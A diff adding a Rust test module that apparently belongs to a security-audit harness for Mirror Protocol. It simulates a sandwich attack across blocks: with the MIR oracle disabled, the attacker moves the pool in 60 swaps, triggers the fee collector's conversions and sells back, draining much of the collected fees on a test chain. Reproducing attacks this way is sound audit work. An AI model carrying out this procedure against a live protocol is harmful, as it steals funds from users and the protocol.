@@ -1,0 +1,123 @@
+//! Swaps before and after the collector's own, over the edges of blocks.
+
+use cosmwasm_std::{coin, Decimal, Uint128};
+use mirror_protocol::collector::{ConfigUpdate, ExecuteMsg};
+use mirror_testing::{standard_profile, TestChain, World, BASE};
+use serde_json::json;
+use terraswap::asset::Asset;
+
+use super::super::bundle::{base, Bundle};
+use super::super::scenes::{self, MILLION};
+use super::super::stage::Stage;
+use super::super::told::{Attempt, Findings};
+use super::super::Attack;
+
+pub(super) const ATTACK: Attack = Attack {
+    name: "sandwich over blocks",
+    story:
+        "Without an oracle price of MIR the collector looked at the pool of the moment, and left \
+            alone only one that had moved in the same block: 60 small steps in a block, a \
+            conversion in each of the next three, and back, took 149,900 coins of 337,000.",
+    run,
+};
+
+const POOL: u128 = MILLION;
+const FEES: u128 = 337_000_000_000;
+const STEPS: u128 = 60;
+
+/// How far the pool is moved before, in multiples of it, and how.
+#[derive(Clone, Copy)]
+struct Way {
+    times: u128,
+    /// Blocks between the swaps and the first conversion.
+    wait: usize,
+    converts: usize,
+    /// The commission of the swaps comes back.
+    provides: bool,
+}
+
+const KNOWN: Way = Way {
+    times: 60,
+    wait: 1,
+    converts: 3,
+    provides: false,
+};
+
+fn run() -> anyhow::Result<Findings> {
+    let mut ways = vec![];
+    for times in [1, 3, 60] {
+        for (wait, converts) in [(0, 3), (1, 1), (1, 3), (3, 3), (1, 30)] {
+            let way = Way {
+                times,
+                wait,
+                converts,
+                ..KNOWN
+            };
+            ways.push(way);
+        }
+    }
+    let attempts: anyhow::Result<Vec<Attempt>> = ways.iter().map(|way| sandwich(*way)).collect();
+    let kept = Way {
+        times: 1,
+        wait: 100,
+        converts: 100,
+        provides: false,
+    };
+    Ok(Findings {
+        attempts: vec![Attempt::best(
+            attempts?,
+            format!(
+                "bought MIR for 1 to 60 times the pool in 60 steps of a block, had the fees \
+                 converted in it or in later blocks, once to 30 times, and sold it again; the \
+                 best of {} ways",
+                ways.len()
+            ),
+        )?],
+        exposures: vec![sandwich(kept)?.exposes(
+            "the price of MIR is four times too high for twenty minutes, and nobody sells",
+        )],
+    })
+}
+
+fn sandwich(way: Way) -> anyhow::Result<Attempt> {
+    let mut stage = prepared(way)?;
+    let mirror = stage.world.asset("MIR");
+    let before = stage.world.token_balance(&mirror.token, &stage.attacker);
+    let step = base(POOL * way.times / STEPS);
+    let buy = |bundle: Bundle, _| bundle.swaps(&mirror.pair, step.clone());
+    stage.does((0..STEPS).fold(Bundle::new(), buy))?;
+    let bought = stage.world.token_balance(&mirror.token, &stage.attacker) - before;
+
+    let convert = json!({ "convert": { "asset_token": BASE } });
+    let collector = stage.world.at.collector.clone();
+    for _ in 0..way.wait {
+        stage.world.chain.pass(6);
+    }
+    for _ in 0..way.converts {
+        stage.tries("T-76", Bundle::new().tells(&collector, &convert))?;
+        stage.world.chain.pass(6);
+    }
+    let part = bought / Uint128::new(STEPS);
+    let sell = |bundle: Bundle, _| bundle.swaps(&mirror.pair, Asset::token(&mirror.token, part));
+    stage.does((0..STEPS).fold(Bundle::new(), sell))?;
+    stage.ends(String::new())
+}
+
+/// MIR is worth 1 and has no price in the oracle; the fees are in base coins.
+fn prepared(way: Way) -> anyhow::Result<Stage> {
+    let profile = standard_profile(&TestChain::new());
+    let mut world = World::deployed_as(profile);
+    let provider = if way.provides { "attacker" } else { "bob" };
+    let who = world.chain.account(provider);
+    world.gives_mir(&who, POOL);
+    world.actor(provider).provides("MIR", POOL, POOL);
+    let no_oracle = ExecuteMsg::UpdateConfig(Box::new(ConfigUpdate {
+        mirror_oracle: Some(String::new()),
+        ..ConfigUpdate::default()
+    }));
+    let collector = world.at.collector.clone();
+    scenes::governs(&mut world, &collector, &no_oracle)?;
+    world.chain.fund(&collector, &[coin(FEES, BASE)]);
+    world.chain.pass(1_200);
+    Stage::new(world, &[("MIR", Decimal::one())])
+}
